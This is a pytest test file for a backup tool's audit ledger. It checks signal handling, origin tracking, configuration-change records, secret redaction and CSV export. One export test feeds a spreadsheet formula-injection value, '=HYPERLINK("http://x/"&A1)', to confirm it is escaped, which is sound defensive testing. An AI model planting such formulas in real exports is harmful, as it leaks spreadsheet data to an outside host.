"""Who did what, when, from where, why, and with what result: also of what was stopped or killed."""

from __future__ import annotations

import csv
import os
import re
import signal
import subprocess
import sys
from collections.abc import Iterator, Mapping
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from strongroom.errors import StrongroomError
from strongroom.evidence import Entry
from strongroom.service.application import Application
from strongroom.service.audit import Deed, record_end
from tests.e2e.command_line import CONFIG, PASSWORD, Place, make_place
from tests.support.demo_ground import child_environment, end_child, run_child, start_child
from tests.support.failure_ground import wait_until
from tests.support.repository_ground import new_repository

SERVICE = (
    CONFIG
    + """\
objectives: {rto: 2h}
schedule: {capture: "0 0 1 1 *", prune: never, check: never, drill: never,
  application_drill: never, verify_daily: never, verify_weekly: never, verify_monthly: never}
"""
)
SECRET = "hunter2-and-more"
ADDRESS = "203.0.113.5"


@pytest.fixture
def place(tmp_path: Path) -> Place:
    made = make_place(tmp_path, CONFIG)
    new_repository(made.path / "local")
    made.json("backup")
    return made


def audit(place: Place, *kinds: str) -> list[Entry]:
    return [one for one in place.ledger.entries() if one.kind in kinds]


def newest(place: Place, kind: str = "command") -> Mapping[str, Any]:
    return audit(place, kind)[-1].fields


# Whatever becomes of it


@pytest.fixture
def large(place: Place) -> Place:
    """With a file that takes a while to restore."""
    with (place.uploads / "large.bin").open("wb") as file:
        file.truncate(300 << 20)
    place.json("backup")
    return place


@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM])
def test_what_is_interrupted_is_recorded(large: Place, number: signal.Signals) -> None:
    target = large.path / "back"
    child = start_child("--config", large.config, "restore", "uploads", "--to", target)
    wait_until(target.exists, child)
    child.send_signal(number)
    assert end_child(child).status == 130
    fields = newest(large)
    assert (fields["command"], fields["exit_status"]) == ("restore", 130)
    assert fields["error"]["code"] == "interrupted"
    assert newest(large, "command-begun")["run"] == fields["run"]
    assert large.ledger.verify() == []


def test_what_is_killed_has_left_its_beginning(large: Place) -> None:
    target = large.path / "back"
    child = start_child(
        "--config", large.config, "restore", "uploads", "--to", target, "--reason", "curious"
    )
    wait_until(target.exists, child)
    child.kill()
    assert end_child(child).status == -signal.SIGKILL
    begun = audit(large, "command-begun")[-1]
    assert begun.fields["command"] == "restore"
    assert begun.fields["arguments"] == ["uploads", "--to", str(target)]
    assert begun.fields["reason"] == "curious"
    listed = large.json("log", "--failed")
    assert [one["seq"] for one in listed["entries"]] == listed["unended"] == [begun.seq]
    line = large.run("log", "--failed").text.splitlines()[1]
    assert f"restore uploads --to {target}"[:60] in line
    assert "no end is recorded" in line
    # One that came to its end is none of them.
    large.json("restore", "uploads", "--to", large.path / "again")
    assert [one["seq"] for one in large.json("log", "--failed")["entries"]] == [begun.seq]
    assert large.ledger.verify() == []


def test_the_beginning_stands_there_before_the_first_byte_leaves(place: Place) -> None:
    path = f"{place.uploads}/lpos/LPO-1.pdf"
    before = place.ledger.path.stat().st_size
    reading, writing = os.pipe()
    child = subprocess.Popen(
        [sys.executable, "-m", "strongroom", "--config", str(place.config), "dump",
         "latest:uploads", path],
        stdout=writing, env=child_environment(),
    )  # fmt: skip
    os.close(writing)
    try:
        assert os.read(reading, 1) == b"%"
        added = place.ledger.path.read_bytes()[before:]
        assert b'"kind":"command-begun"' in added
    finally:
        os.close(reading)
        child.wait(timeout=60)
    # Its reader has gone away: that is no error, and what was given is told.
    fields = newest(place)
    assert fields["exit_status"] == 0
    assert [one["path"] for one in fields["given"]] == [path]


def test_what_is_given_to_nobody_is_told_too(place: Place) -> None:
    with Path("/dev/full").open("wb") as full:
        child = subprocess.run(
            [sys.executable, "-m", "strongroom", "--config", str(place.config), "dump",
             "latest:uploads", f"{place.uploads}/lpos/LPO-1.pdf"],
            stdout=full, stderr=subprocess.DEVNULL, env=child_environment(), check=False,
        )  # fmt: skip
    assert child.returncode == 6
    fields = newest(place)
    assert fields["error"]["code"] == "output-failed"
    assert fields["given"][0]["bytes"] > 0


def test_a_bug_is_recorded_by_its_kind_alone(place: Place) -> None:
    """Nobody knows what its text quotes."""
    application = Application.load(place.config)
    deed = Deed("diff", (), "a test", datetime.now(UTC))
    bug = StrongroomError(f"RuntimeError: somebody quotes {SECRET}")
    assert record_end(application, deed, seconds=1, exit_status=1, error=bug) == []
    assert newest(place)["error"]["message"] == "RuntimeError"
    assert SECRET not in place.ledger.content().decode()


# Without a place for it


def test_nothing_is_refused_because_it_cannot_be_recorded(place: Place) -> None:
    path = f"{place.uploads}/lpos/LPO-1.pdf"
    place.write_config(CONFIG.replace("state: state", "state: /sys/strongroom-state"))
    for words in (
        ["dump", "latest:uploads", path, "--output", place.path / "one.pdf"],
        ["restore", "uploads", "--to", place.path / "back"],
        ["ls", "latest:uploads"],
    ):
        answer = place.run("--quiet", *words)
        assert answer.status == 0, answer.err
        assert answer.err.count("evidence-unrecorded") == 1
    assert (place.path / "one.pdf").read_bytes() == (place.uploads / "lpos/LPO-1.pdf").read_bytes()
    document = place.json("ls", "latest:uploads")
    assert list(document) == ["entries"]


def test_a_ledger_that_is_none_stops_no_restore(place: Place) -> None:
    place.ledger.path.write_bytes(b"something else\n")
    answer = place.run("restore", "uploads", "--to", place.path / "back")
    assert "evidence-unrecorded" in answer.err
    assert (place.path / "back/lpos/LPO-1.pdf").exists()
    assert place.ledger.path.read_bytes() == b"something else\n"


# From where


def run_in(place: Place, script: str, **environment: str) -> None:
    """Run a shell's line in which $S is the program with its configuration."""
    program = f"{sys.executable} -m strongroom --quiet --config {place.config}"
    subprocess.run(
        ["sh", "-c", script.replace("$S", program)],
        check=True,
        env=child_environment(environment),
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
    )


def test_it_is_told_from_where(place: Place) -> None:
    connection = f"{ADDRESS} 50022 198.51.100.1 22"
    run_in(place, "$S ls latest:uploads; true", SSH_CONNECTION=connection)
    assert f"ssh from {ADDRESS}" in newest(place)["from"]
    assert newest(place)["from"].endswith("started by sh")
    # sudo drops the variable; who called it still has it.
    run_in(place, "env -u SSH_CONNECTION $S ls latest:uploads; true", SSH_CONNECTION=connection)
    assert f"ssh from {ADDRESS}" in newest(place)["from"]
    run_in(place, "$S ls latest:uploads; true", SUDO_USER="amina")
    assert newest(place)["by"].startswith("amina as ")


def test_a_terminal_is_named(place: Place) -> None:
    command = f"{sys.executable} -m strongroom --quiet --config {place.config} ls latest:uploads"
    subprocess.run(
        ["script", "-qec", command, "/dev/null"],
        check=True,
        env=child_environment(),
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
    )
    assert re.match(r"terminal pts/\d+", newest(place)["from"])
    child = start_child("--config", place.config, "ls", "latest:uploads")
    assert end_child(child).status == 0
    assert newest(place)["from"].startswith("no terminal")


# Secrets


def test_no_secret_gets_into_the_ledger(place: Place, monkeypatch: pytest.MonkeyPatch) -> None:
    """Invariant I6: whatever somebody types in the wrong place."""
    monkeypatch.chdir(place.path)
    url = f"postgresql://tms:{SECRET}@db.example.com/tms"
    monkeypatch.setenv("TMS_SECRET", SECRET)
    for words in (
        ["restore", "uploads", "--to", url],
        ["restore", "uploads", "--to", place.path / "x", "--reason", f"as {url} is lost"],
        ["restore", "--rollback", url],
        ["restore", "uploads", "--to", place.path / "y", "--replace", f"password={SECRET}"],
        ["prove", "uploads", "--target", url],
        ["dump", "latest:uploads", f"token={SECRET}"],
        ["ls", f"latest:tms:{SECRET}@db.example.com"],
        ["export", "latest:uploads", "-f", "tar", "-o", place.path / f"tar secret={SECRET}"],
        ["key", "add", "local", "--new-password", SECRET],
        ["key", "add", "local", "--new-password", f"command:sh -c 'echo {SECRET}'"],
        ["key", "add", "local", "--new-password", "env:TMS_SECRET"],
        ["key", "remove", "local", f"pass={SECRET}"],
        ["snapshots", "pin", "latest:uploads", "--reason", f"password = {SECRET}"],
    ):
        place.run("--quiet", *words)
    kept = b"".join(one.read_bytes() for one in place.ledger.path.parent.glob("ledger.jsonl*"))
    assert len(audit(place, "command")) == 14
    assert SECRET.encode() not in kept
    assert PASSWORD.encode() not in kept


# Configuration


def test_other_settings_are_recorded_with_what_changed(place: Place) -> None:
    (first,) = audit(place, "configuration")
    assert first.fields["digest_before"] is None
    assert first.fields["changes"] == []
    assert first.fields["file"] == str(place.config)
    assert "terminal" in first.fields["from"]
    assert first.fields["settings"]["repositories"]["local"]["password"].startswith("file:")
    place.json("ls", "latest:uploads")
    assert audit(place, "configuration") == [first], "nothing has changed"

    place.write_config(CONFIG.replace("required: [lpos]", "exclude: ['*.tmp']"))
    for words in (["config", "check"], ["log"], ["snapshots"], ["prune", "--dry-run"]):
        place.json(*words)
    assert audit(place, "configuration") == [first], "a draft that is only looked at is none"
    place.json("ls", "latest:uploads")
    place.json("ls", "latest:uploads")
    first, second = audit(place, "configuration")
    assert second.fields["digest_before"] == first.fields["config_digest"]
    assert second.fields["changes"] == [
        {"setting": "sources.uploads.exclude", "before": [], "after": ["*.tmp"]},
        {"setting": "sources.uploads.required", "before": ["lpos"], "after": []},
    ]
    assert newest(place)["config_digest"] == second.fields["config_digest"]
    text = place.run("log", "--action", "configuration").text
    assert "first seen" in text
    assert "sources.uploads.exclude, sources.uploads.required" in text
    assert "2 settings changed" in text
    # Back again, which is a change as well.
    place.write_config(CONFIG)
    place.json("ls", "latest:uploads")
    assert len(audit(place, "configuration")) == 3
    assert newest(place, "configuration")["config_digest"] == first.fields["config_digest"]


def test_what_may_be_a_secret_is_not_shown_and_its_change_is(place: Place) -> None:
    check = """\
application_check:
  start: php -S 127.0.0.1:{port}
  environment: {API: "%s", KEY: "env:APP_KEY"}
  http: [{path: /, headers: {Authorization: "Bearer %s"}}]
"""
    code = "  code: {kind: git, path: app}\nrepositories:"
    config = CONFIG.replace("repositories:", code)
    place.write_config(config + check % (SECRET, SECRET))
    place.json("ls", "latest:uploads")
    place.write_config(config + check % (SECRET, f"{SECRET}2"))
    place.json("ls", "latest:uploads")
    *_, before, after = audit(place, "configuration")
    assert before.fields["config_digest"] != after.fields["config_digest"]
    assert [one["setting"] for one in after.fields["changes"]] == ["a value that is not shown"]
    assert after.fields["settings"]["application_check"]["environment"] == {
        "API": "***", "KEY": "env:APP_KEY"
    }  # fmt: skip
    assert SECRET not in place.ledger.content().decode()


def test_two_at_once_are_both_recorded_and_one_change_once(place: Place) -> None:
    place.write_config(CONFIG + "objectives: {rto: 2h}\n")
    before = len(audit(place, "command"))
    words = ("--config", place.config, "--quiet", "dump", "latest:uploads")
    children = [start_child(*words, f"{place.uploads}/lpos/LPO-1.pdf") for _ in range(3)]
    for child in children:
        assert end_child(child).status == 0
    assert place.ledger.verify() == []
    assert len(audit(place, "command")) == before + 3
    assert len({one.fields["run"] for one in audit(place, "command-begun")}) == 3
    (_, changed) = audit(place, "configuration")
    assert [one["setting"] for one in changed.fields["changes"]] == ["objectives.rto"]


def test_a_configuration_that_cannot_be_loaded_says_so_and_records_nothing(place: Place) -> None:
    before = place.ledger.content()
    place.write_config("version: 1\n")
    assert place.run("ls", "latest:uploads").status == 2
    assert place.ledger.content() == before


# The service


@pytest.fixture
def service(place: Place) -> Iterator[subprocess.Popen[bytes]]:
    """Without a schedule: it does what somebody asks."""
    place.write_config(SERVICE)
    child = start_child("--config", place.config, "serve", "--listen", "none")
    wait_until(lambda: any(place.ledger.entries("schedule")), child)  # then it takes orders
    yield child
    child.send_signal(signal.SIGTERM)
    assert end_child(child).status == 0


def test_the_service_tells_who_started_it_and_how_it_ended(
    place: Place, service: subprocess.Popen[bytes]
) -> None:
    (begun,) = audit(place, "command-begun")
    assert begun.fields["arguments"] == ["--listen", "none"]
    assert "terminal" in begun.fields["from"]
    service.send_signal(signal.SIGTERM)
    service.wait(timeout=60)
    fields = newest(place)
    assert (fields["command"], fields["exit_status"]) == ("serve", 0)
    assert fields["run"] == begun.fields["run"]
    assert place.json("log", "--failed", "--command", "serve")["entries"] == []


def test_settings_that_the_service_reads_anew_are_recorded(
    place: Place, service: subprocess.Popen[bytes]
) -> None:
    before = len(audit(place, "configuration"))
    place.write_config(SERVICE.replace("rto: 2h", "rto: 3h"))
    service.send_signal(signal.SIGHUP)
    wait_until(lambda: len(audit(place, "configuration")) > before, service)
    changes = newest(place, "configuration")["changes"]
    assert [one["setting"] for one in changes] == ["objectives.rto"]


def test_what_the_service_does_for_somebody_tells_for_whom(
    place: Place, service: subprocess.Popen[bytes]
) -> None:
    place.json("drill", "uploads")
    (person,) = [one.fields for one in audit(place, "command") if one.fields["command"] == "drill"]
    assert person["job"] == "drill:asked"
    (job,) = place.ledger.entries("job")
    assert job.fields["job"] == "drill:asked"
    assert service.poll() is None


def test_nobody_escapes_by_calling_himself_the_service(
    place: Place, service: subprocess.Popen[bytes]
) -> None:
    for words in (["ls", "latest:uploads"], ["dump", "latest:uploads", "/"], ["unlock"]):
        before = len(audit(place, "command"))
        run_child("--config", place.config, *words, environment={"STRONGROOM_JOB": "drill"})
        assert len(audit(place, "command")) == before + 1
        assert newest(place)["command"] == words[0]
        assert newest(place)["job"] is None
    assert service.poll() is None


# For those who ask later


def test_the_records_fit_into_a_spreadsheet(place: Place, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://x/"&A1)'
    place.json("restore", "uploads", "--to", tmp_path / "back", "--reason", formula)
    output = tmp_path / "audit.csv"
    report = place.json("log", "--command", "restore", "--export", output, "--format", "csv")
    with output.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert report["records"] == len(rows) == 2
    begun, end = rows
    assert (begun["action"], end["action"]) == ("command-begun", "command")
    assert begun["run"] == end["run"]
    assert end["command"].startswith("restore uploads --to ")
    assert (end["result"], end["exit_status"]) == ("done", "0")
    assert end["reason"] == f"'{formula}"
    assert "terminal" in end["from"]
    assert re.fullmatch(r"[0-9a-f]{64}", end["hash"])


def test_a_person_reads_who_did_what_and_why(place: Place, tmp_path: Path) -> None:
    place.json("restore", "uploads", "--to", tmp_path / "back", "--reason", "Ticket 17")
    lines = place.run("--verbose", "log", "--command", "restore").text.splitlines()
    assert lines[0].endswith("FROM")
    assert "begun" in lines[1]
    assert "Ticket 17" in lines[2]
    assert "done" in lines[2]
    assert "terminal" in lines[2]
    answer = run_child("--config", place.config, "ls", "no such snapshot")
    assert answer.status != 0
    (listed,) = place.json("log", "--failed", "--command", "ls")["entries"]
    assert listed["error"]["code"] == "snapshot-missing"
    assert "failed: " in place.run("log", "--failed").text


def test_key_operations_say_why(place: Place) -> None:
    place.json("key", "export", "local", "--output", place.path / "master", "--reason", "for safe")
    begun, own, end = list(place.ledger.entries())[-3:]
    assert [one.kind for one in (begun, own, end)] == ["command-begun", "key-export", "command"]
    assert len({one.fields["run"] for one in (begun, own, end)}) == 1
    assert end.fields["reason"] == "for safe"
    entries = place.json("log", "--command", "key")["entries"]
    assert [one["action"] for one in entries] == ["command-begun", "command"]
